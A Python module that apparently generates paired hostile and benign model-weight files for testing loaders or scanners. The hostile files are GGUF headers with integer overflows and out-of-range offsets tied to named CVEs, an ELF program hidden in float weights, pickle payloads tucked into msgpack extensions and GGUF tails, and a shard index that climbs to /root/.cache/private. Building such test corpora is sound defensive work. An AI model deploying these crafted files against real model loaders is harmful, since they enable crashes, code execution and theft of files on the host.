"""Weights as data: headers whose numbers lie, hidden programs, and codecs that load objects."""

from __future__ import annotations

import json
import struct

import msgpack
import numpy as np

from assembly import glob
from eighth.kit import wicked
from pair import CODE
from seventh.kit import elf, floats, gguf, gguf_text, layer, safetensors


def header(name: str, kind: int, payload: bytes) -> bytes:
    """A GGUF of one tensor with a key more, of a raw `kind` and `payload`, put before the others."""
    plain = gguf()
    count = struct.unpack_from("<Q", plain, 16)[0]
    out = plain[:16] + struct.pack("<Q", count + 1) + gguf_text(name) + struct.pack("<I", kind) + payload + plain[24:]
    return out


def planted(program: bytes) -> bytes:
    """Weights the low three bytes of each of which are the program's, from the tenth on."""
    raw = bytearray(floats(256))
    for i, byte in enumerate(program):
        raw[4 * (10 + i // 3) + i % 3] = byte
    return bytes(raw)


def add(out):
    def one(name, hostile, twin, file, why="", prove=None):
        out.add("weights", name, hostile, twin, prove, file, why)

    one(
        "array_count_overflows",
        header("tokenizer.ggml.unused_scores", 9, struct.pack("<IQ", 6, 0x4000000000000001) + struct.pack("<3f", 0.5, 0.25, 0.125)),
        header("tokenizer.ggml.unused_scores", 9, struct.pack("<IQ", 6, 3) + struct.pack("<3f", 0.5, 0.25, 0.125)),
        "model.gguf",
        "CVE-2024-21825 and 21836: count times four wraps to a few bytes, the reader writes past the buffer",
    )
    one(
        "alignment_of_nothing",
        gguf({"general.alignment": 0}),
        gguf({"general.alignment": 32}),
        "model.gguf",
        "a reader that divides by the alignment of the header stops the server",
    )
    plain = gguf()
    at = plain.index(gguf_text("output_norm.weight")) + 8 + 18 + 4 + 8

    def typed(kind, offset):
        return plain[:at] + struct.pack("<IQ", kind, offset) + plain[at + 12 :]

    one(
        "type_outside_of_the_table",
        typed(0x7FFF0001, 512),
        typed(0, 512),
        "model.gguf",
        "CVE-2024-25666 and like: the type of a tensor is an index into a table of the reader",
    )
    one(
        "offset_far_beyond_the_file",
        typed(0, 0xFFFFFFFFFFFFF000),
        plain,
        "model.gguf",
        "CVE-2025-53630 and like: base plus offset wraps to memory before the file",
    )
    one(
        "program_in_three_of_four_bytes",
        safetensors([("fc.weight", "F32", [16, 16], planted(elf()))]),
        safetensors([("fc.weight", "F32", [16, 16], floats(256))]),
        "model.safetensors",
        "EvilModel's fast substitution: each weight keeps its exponent and carries three bytes of a program",
    )
    weights = layer("fc.weight", 8, 4)
    one(
        "header_longer_than_the_file",
        struct.pack("<Q", 0x7FFFFFFFFFFFFFF0) + safetensors([weights])[8:],
        safetensors([weights]),
        "model.safetensors",
        "a reader that allocates what the first eight bytes say stops",
    )

    def flax(extension):
        return msgpack.packb(
            {"params": {"Dense_0": {"kernel": msgpack.ExtType(1, msgpack.packb(((2, 2), "float32", floats(4)))), "bias": extension}}}
        )

    one(
        "extension_of_msgpack_is_a_pickle",
        flax(msgpack.ExtType(42, wicked(glob("profile", "run"), CODE))),
        flax(msgpack.ExtType(1, msgpack.packb(((2,), "float32", floats(2))))),
        "flax_model.msgpack",
        "an extension type that helpers of object trees unpickle",
        "msgpack.extension",
    )
    index = {
        "metadata": {"total_size": 128},
        "weight_map": {"fc.weight": "model-00001-of-00002.safetensors", "fc.bias": "model-00002-of-00002.safetensors"},
    }
    shards = {
        "model-00001-of-00002.safetensors": safetensors([weights]),
        "model-00002-of-00002.safetensors": safetensors([layer("fc.bias", 1, 4)]),
    }
    wrong = json.loads(json.dumps(index))
    wrong["weight_map"]["fc.bias"] = "../../../../root/.cache/private/model.safetensors"
    one(
        "shard_index_climbs_out",
        {"model.safetensors.index.json": json.dumps(wrong), **shards},
        {"model.safetensors.index.json": json.dumps(index), **shards},
        None,
        "the index takes a shard of another model of the host",
    )
    zeros = np.zeros(4, "<f4").tobytes()
    one(
        "checkpoint_of_gguf_with_a_pickled_array",
        gguf({"training.state": CODE}, tail=b"\0" * 32 + wicked(glob("cProfile", "run"), CODE) + zeros),
        gguf({"training.state": CODE}),
        "model.gguf",
        "a pickle waits behind the last tensor",
    )
